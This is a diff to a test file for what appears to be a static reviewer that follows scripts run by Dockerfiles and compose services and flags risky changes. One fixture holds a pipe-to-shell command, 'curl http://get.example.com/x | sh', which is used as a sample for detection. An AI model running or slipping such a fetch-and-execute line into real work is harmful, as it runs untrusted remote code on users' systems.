@@ -74,11 +74,15 @@ describe('a script that is copied', () => {
   });
 });
 
+const decoysOf = (length: number) => Array.from({ length }, (_, i) => `d${i}.sh`);
+const textsOf = (paths: readonly string[]) => Object.fromEntries(paths.map((path) => [path, 'true\n']));
+const running = (paths: readonly string[]) =>
+  `FROM debian:12\nCOPY . /app\nWORKDIR /app\nRUN ${paths.map((path) => `./${path}`).join(' && ')}\n`;
+
 describe('behind more than is followed', () => {
-  const decoys = Array.from({ length: 120 }, (_, i) => `d${i}.sh`);
-  const texts = Object.fromEntries(decoys.map((path) => [path, 'true\n']));
-  const dockerfile = (last: string) =>
-    `FROM debian:12\nCOPY . /app\nWORKDIR /app\nRUN ${[...decoys, last].map((path) => `./${path}`).join(' && ')}\n`;
+  const decoys = decoysOf(120);
+  const texts = textsOf(decoys);
+  const dockerfile = (last: string) => running([...decoys, last]);
 
   test('what the change touches is read all the same', async () => {
     const review = await reviewed(
@@ -89,9 +93,36 @@ describe('behind more than is followed', () => {
     assert.deepEqual(places(review, 'world-writable-permissions'), ['introduced own.sh:2']);
   });
 
-  test('what it touches and may be run is not reviewed', async () => {
-    const before = { ...texts, 'd119.sh': './own.sh\n', Dockerfile: dockerfile('d0.sh'), 'own.sh': 'true\n' };
-    const review = await reviewed(before, { 'own.sh': attack });
+  test('and so it is where only what is behind leads to it, through as many as there are', async () => {
+    for (const by of ['./own.sh', 'sh own.sh', '. ./between.sh']) {
+      const between = { 'd119.sh': `${by}\n`, 'between.sh': 'sh own.sh\n' };
+      const before = { ...texts, ...between, Dockerfile: dockerfile('d0.sh'), 'own.sh': 'true\n' };
+      const review = await reviewed(before, { 'own.sh': attack });
+      assert.deepEqual(unread(review), []);
+      assert.deepEqual(places(review, 'world-writable-permissions'), ['introduced own.sh:2'], by);
+    }
+  });
+
+  test('and that a service runs', async () => {
+    const service = (last: string) =>
+      `services:\n  a:\n    image: debian:12\n    working_dir: /app\n    volumes: [./:/app:ro]\n    command: sh -c "${[...decoys, last].map((path) => `./${path}`).join('; ')}"\n`;
+    const before = { ...texts, 'd119.sh': './own.sh\n', 'own.sh': 'true\n', 'compose.yaml': service('d0.sh') };
+    const review = await reviewed(before, { 'own.sh': 'curl http://get.example.com/x | sh\n' });
+    assert.deepEqual([unread(review), places(review, 'pipe-to-shell')], [[], ['introduced own.sh:1']]);
+  });
+
+  test('what it touches and nothing runs is not told', async () => {
+    const review = await reviewed(
+      { ...texts, Dockerfile: dockerfile('d0.sh'), 'own.sh': 'true\n' },
+      { 'own.sh': attack },
+    );
+    assert.deepEqual([unread(review), review.verdict], [[], 'pass']);
+  });
+
+  test('what may be run by what is not even looked for is not reviewed', async () => {
+    const many = decoysOf(2100);
+    const last = { 'd2099.sh': './own.sh\n', 'own.sh': 'true\n' };
+    const review = await reviewed({ ...textsOf(many), ...last, Dockerfile: running(many) }, { 'own.sh': attack });
     assert.deepEqual(unread(review), [
       'own.sh: Dockerfile may run this file, which was not reviewed: it runs more files than are followed. Split Dockerfile.',
     ]);
